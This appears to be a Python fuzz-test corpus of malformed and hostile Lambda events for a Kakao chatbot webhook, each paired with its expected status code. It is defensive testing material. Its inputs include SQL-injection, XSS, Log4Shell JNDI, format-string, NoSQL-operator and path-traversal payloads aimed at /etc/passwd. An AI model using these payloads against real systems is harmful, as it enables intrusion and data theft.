"""Malformed and hostile events, each with the status it must get: 200 with a valid Kakao body
for anything Kakao-shaped, 400 for the rest. Built in code: some are a megabyte long."""

from __future__ import annotations

import base64
import json

from devtools.local_gateway import kakao_request, proxy_event

GARBAGE = "쀍뛝퀣"  # no artist anywhere: looking it up must change nothing in the store
INJECTIONS = [
    "'; DROP TABLE artists; --",
    '" OR 1=1 --',
    "아이유' UNION SELECT spotify_id FROM artists --",
    '{"version": "2.0", "template": {"outputs": []}}',
    '"}]}, "version": "1.0',
    "</script><script>alert(1)</script>",
    "${jndi:ldap://example.invalid/a}",
    "%s%s%s%n",
]


def event(body, *, base64_encoded: bool = False, headers: dict | None = None) -> dict:
    shaped = proxy_event("", headers or {"Content-Type": "application/json"})
    shaped["body"] = body
    shaped["isBase64Encoded"] = base64_encoded
    return shaped


def kakao(utterance=GARBAGE, **extra) -> str:
    return json.dumps(kakao_request(utterance, extra or None), ensure_ascii=False)


def with_path(path: list, value) -> str:
    """A Kakao request with one field, deep inside, replaced."""
    body = kakao_request(GARBAGE)
    target = body
    for key in path[:-1]:
        target = target[key]
    target[path[-1]] = value
    return json.dumps(body, ensure_ascii=False)


FIELDS = [
    ["userRequest"],
    ["userRequest", "utterance"],
    ["userRequest", "user"],
    ["userRequest", "user", "id"],
    ["userRequest", "params"],
    ["userRequest", "params", "surface"],
    ["action"],
    ["action", "params"],
    ["action", "detailParams"],
    ["action", "clientExtra"],
    ["intent"],
    ["bot"],
]
WRONG_VALUES = {"null": None, "number": 42, "list": [1, "a"], "bool": True, "text": "x", "dict": {}}


def corpus() -> list[tuple[str, dict | object, int]]:
    """(name, event, expected status)."""
    cases: list[tuple[str, object, int]] = [
        ("non-JSON body", event("not json at all"), 400),
        ("empty body", event(""), 400),
        ("whitespace body", event("   \n"), 400),
        ("body missing", {k: v for k, v in event("x").items() if k != "body"}, 400),
        ("body null", event(None), 400),
        ("body is a number", event(12), 400),
        ("JSON array", event("[1, 2, 3]"), 400),
        ("JSON string", event('"아이유"'), 400),
        ("JSON null", event("null"), 400),
        ("JSON without Kakao keys", event('{"hello": "world"}'), 400),
        ("JSON nested 100k deep", event("[" * 100_000 + "]" * 100_000), 400),
        ("base64 that is not", event("%%%not-base64%%%", base64_encoded=True), 400),
        (
            "base64 of invalid UTF-8",
            event(base64.b64encode(b"\xff\xfe{").decode(), base64_encoded=True),
            400,
        ),
        (
            "base64 of a Kakao request",
            event(base64.b64encode(kakao().encode()).decode(), base64_encoded=True),
            200,
        ),
        ("raw lone surrogate in body", event('{"userRequest": {"utterance": "\ud800"}}'), 200),
        ("escaped lone surrogate", event('{"userRequest": {"utterance": "a\\ud800b"}}'), 200),
        ("body over 2 MiB", event(kakao("가" * 1_200_000)), 400),
        ("1 MB utterance", event(kakao("가" * 300_000)), 200),
        ("control characters", event(kakao(f"\x00\x07{GARBAGE}\x1b[31m\u2028")), 200),
        ("emoji only", event(kakao("🎤🎶👩‍🎤")), 200),
        ("emoji around a garbage name", event(kakao(f"🎤 {GARBAGE} 🎶")), 200),
        ("zero-width and RTL marks", event(kakao(f"\u200b\u202e{GARBAGE}\ufeff")), 200),
        (
            "every Kakao key null",
            event('{"userRequest": null, "action": null, "intent": null, "bot": null}'),
            200,
        ),
        ("forged button id", event(kakao(GARBAGE, artist_id="../../../etc/passwd")), 200),
        (
            "forged but well-formed id",
            event(kakao(GARBAGE, artist_id="0" * 22, artist_name=GARBAGE)),
            200,
        ),
        ("clientExtra name is a dict", event(kakao(GARBAGE, artist_name={"$gt": ""})), 200),
        (
            "parameter is stringified JSON bomb",
            event(with_path(["action", "params"], {"solo": "{" * 50_000})),
            200,
        ),
        ("headers null", {**event(kakao()), "headers": None}, 200),
        (
            "headers with non-text values",
            {**event(kakao()), "headers": {"x-api-key": 5, "a": None}},
            200,
        ),
        ("event null", None, 400),
        ("event a list", [kakao()], 400),
        ("event a string", kakao(), 400),
        ("empty event", {}, 400),
        ("S3 notification", {"Records": [{"eventSource": "aws:s3", "s3": {}}]}, 400),
        ("scheduled event", {"source": "aws.events", "detail-type": "Scheduled Event"}, 400),
    ]
    for path in FIELDS:
        for kind, value in WRONG_VALUES.items():
            cases.append((f"{'.'.join(path)} is {kind}", event(with_path(path, value)), 200))
    for text in INJECTIONS:
        cases.append((f"injection {text[:24]!r}", event(kakao(text)), 200))
        cases.append(
            (
                f"injection as solo {text[:16]!r}",
                event(with_path(["action", "params"], {"solo": text})),
                200,
            )
        )
    return cases
